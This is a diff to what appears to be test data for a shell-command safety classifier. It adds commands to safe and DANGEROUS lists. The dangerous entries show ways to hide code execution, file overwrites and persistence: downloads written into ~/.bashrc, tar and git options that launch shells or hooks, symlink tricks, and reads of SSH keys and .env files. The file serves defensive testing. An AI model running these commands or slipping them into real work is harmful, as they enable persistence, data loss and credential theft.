@@ -344,6 +344,22 @@ sort -*
 find . -d*
 file -f names.txt
 tree --fromfile names.txt
+gcc -Ifoo/include -Lfoo/lib -o app a.c
+gcc -o build/app a.c
+java -Dfoo.bar=1 -jar a.jar
+python -W ignore script.py
+python3 -c'print(1)'
+perl -pe's/a/b/' f
+curl -so/tmp/x https://example.com
+wget -qO- https://example.com
+tar xf a.tar -C./out
+tar czf File.tgz src
+git clone --depth=1 -b main https://github.com/a/b.git
+ln -s ../lib/a b
+ln -s /usr/bin/python3 bin/python
+sort -t/ -k2 -o out.txt f
+xxd -r dump.hex out.bin
+mapfile -t lines < f
 """
 
 DANGEROUS = r"""
@@ -718,6 +734,35 @@ git show HEAD:.env
 git grep KEY .env
 xargs -a ~/.ssh/id_rsa echo
 xargs --arg-file=.env echo
+python -W ignore -c "import shutil; shutil.rmtree('x')"
+python3 -c'import os; os.system("make")'
+perl -e'unlink glob "*"'
+ruby -I lib -e 'system "make"'
+node -r mod -e 'child_process.exec("make")'
+curl -o/home/u/.bashrc https://example.com
+curl -so/home/u/.bashrc https://example.com
+wget -O/home/u/.bashrc https://example.com
+wget --output-document=/home/u/x https://example.com
+tar xf a.tar -C/home/u
+tar cIf 'sh -c make' a.tar b
+tar -xf x --to-comm=sh
+tar -xvIsh -f x
+sort -o /home/u/x f
+sort -uo/home/u/x f
+uniq a /home/u/x
+xxd a /home/u/x
+git log --output=/home/u/x
+gcc -o ~/.bashrc x.c
+cp -t/home/u/.ssh x
+ln -s ~/.bashrc x; echo make >> x
+ln -s ~ h && echo x > h/.bashrc
+mapfile -C make -c 1 < f
+compgen -C make
+git clone -c core.sshCommand=make ssh://x/y
+git clone --config=core.hooksPath=x y
+git clone -u ./x . y
+git ls-remote --exec=./x .
+git -c interactive.diffFilter=make add -p
 """
 
 FORBIDDEN = r"""
